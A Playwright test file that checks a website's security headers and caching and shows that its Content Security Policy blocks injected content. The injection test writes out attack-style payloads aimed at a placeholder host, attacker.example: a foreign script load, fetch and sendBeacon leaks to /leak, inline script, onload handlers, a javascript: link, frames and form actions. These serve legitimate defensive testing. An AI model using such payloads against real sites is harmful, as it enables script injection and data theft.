import { readFileSync } from "node:fs";
import { join } from "node:path";
import { paths } from "../../src/config/paths.ts";
import { expect, test } from "../support/test.ts";

const built = (name: string) => readFileSync(join(import.meta.dirname, "../../dist", name), "utf8");

/** The choice of typefaces in a page's head; no other inline script is found in the built pages. */
const ONE_INLINE_SCRIPT = /; script-src 'self' 'sha256-[\w+/]{43}='; /;

test("every page, the unknown ones and the files come with the headers", async ({ request }) => {
  const addresses = [...Object.values(paths), "/no/such/page", "/robots.txt", "/rest/v1/"];
  for (const address of addresses) {
    const headers = (await request.get(address)).headers();
    expect(headers, address).toMatchObject({
      "content-security-policy": expect.stringMatching(ONE_INLINE_SCRIPT),
      "x-content-type-options": "nosniff",
      "x-frame-options": "DENY",
      "referrer-policy": "strict-origin-when-cross-origin",
      "permissions-policy": expect.stringContaining("geolocation=()"),
      "cross-origin-opener-policy": "same-origin",
    });
    // http on this machine: neither may send the browser to https.
    expect(headers["strict-transport-security"], address).toBeUndefined();
    expect(headers["content-security-policy"], address).not.toContain("upgrade-insecure");
  }
});

test("the files for the hosts say the same, and https besides", async ({ request }) => {
  expect((await request.get("/licenses.txt")).headers()["content-type"]).toContain("text/plain");
  const sent = (await request.get("/")).headers()["content-security-policy"] ?? "missing";
  for (const file of ["_headers", "vercel.json"]) {
    expect(built(file)).toContain(`${sent}; upgrade-insecure-requests`);
    expect(built(file)).toContain("max-age=63072000");
  }
});

test("pages are asked about each time, hashed files never", async ({ page, request }) => {
  const assets: string[] = [];
  page.on("request", (asked) => {
    if (asked.url().includes("/assets/")) assets.push(asked.url());
  });
  const headers = (await page.goto("/"))?.headers();
  expect(headers?.["cache-control"]).toMatch(/no-cache|max-age=0, must-revalidate/);
  const again = await request.get("/", { headers: { "If-None-Match": headers?.etag ?? "" } });
  expect(again.status()).toBe(304);
  expect(assets.length).toBeGreaterThan(0);
  for (const asset of assets) {
    const headers = (await request.get(asset)).headers();
    expect(headers["cache-control"], asset).toBe("public, max-age=31536000, immutable");
  }
});

test.describe("an injected page", () => {
  // Everything in this test is refused, and each refusal is in the console.
  test.use({ allowedViolations: /./, allowedConsole: /Content Security Policy|Refused|violates/ });

  test("can load, run and send nothing", async ({ page, context }) => {
    const left: string[] = [];
    await context.route("https://attacker.example/**", (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: "globalThis.isPwned = true" });
    });
    await page.goto("/faq");
    const outcomes = await page.evaluate(async () => {
      const evil = "https://attacker.example";
      const settled = (element: HTMLElement) =>
        new Promise<string>((resolve) => {
          element.onload = () => resolve("loaded");
          element.onerror = () => resolve("blocked");
          document.body.append(element);
        });
      const refused = (directive: string, act: () => void) =>
        new Promise<string>((resolve) => {
          document.addEventListener("securitypolicyviolation", function heard(event) {
            if (event.effectiveDirective !== directive) return;
            document.removeEventListener("securitypolicyviolation", heard);
            resolve("blocked");
          });
          act();
        });
      const add = (markup: string) => {
        document.body.append(document.createRange().createContextualFragment(markup));
      };
      return {
        foreignScript: await settled(
          Object.assign(document.createElement("script"), { src: `${evil}/x.js` }),
        ),
        image: await settled(
          Object.assign(document.createElement("img"), { src: `${evil}/?leak=1` }),
        ),
        fetched: await fetch(`${evil}/leak`, { method: "POST", mode: "no-cors", body: "x" }).then(
          () => "sent",
          () => "blocked",
        ),
        beacon: await refused("connect-src", () => navigator.sendBeacon(`${evil}/leak`, "x")),
        inlineScript: await refused("script-src-elem", () =>
          add("<script>globalThis.isPwned = true</script>"),
        ),
        handler: await refused("script-src-attr", () =>
          add('<img src="/favicon.svg" onload="globalThis.isPwned = true">'),
        ),
        frame: await refused("frame-src", () => add(`<iframe src="${evil}/"></iframe>`)),
        object: await refused("object-src", () => add(`<object data="${evil}/"></object>`)),
        base: await refused("base-uri", () => add(`<base href="${evil}/">`)),
        form: await refused("form-action", () => {
          const form = Object.assign(document.createElement("form"), { action: `${evil}/` });
          document.body.append(form);
          form.submit();
        }),
        javascriptLink: await refused("script-src-elem", () => {
          const link = Object.assign(document.createElement("a"), {
            href: "javascript:globalThis.isPwned = true",
          });
          document.body.append(link);
          link.click();
        }),
        isPwned: Reflect.get(window, "isPwned"),
      };
    });
    const { isPwned, ...attempts } = outcomes;
    expect(new Set(Object.values(attempts)), JSON.stringify(attempts)).toEqual(
      new Set(["blocked"]),
    );
    expect(isPwned).toBeUndefined();
    expect(left).toEqual([]);
  });

  test("cannot be framed by another site", async ({ page, baseURL, context }) => {
    await context.route("https://attacker.example/**", (route) =>
      route.fulfill({
        contentType: "text/html",
        body: `<iframe src="${baseURL}/contact"></iframe>`,
      }),
    );
    await page.goto("https://attacker.example/");
    const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
    await expect.poll(() => frame?.url()).toBe("chrome-error://chromewebdata/");
  });
});
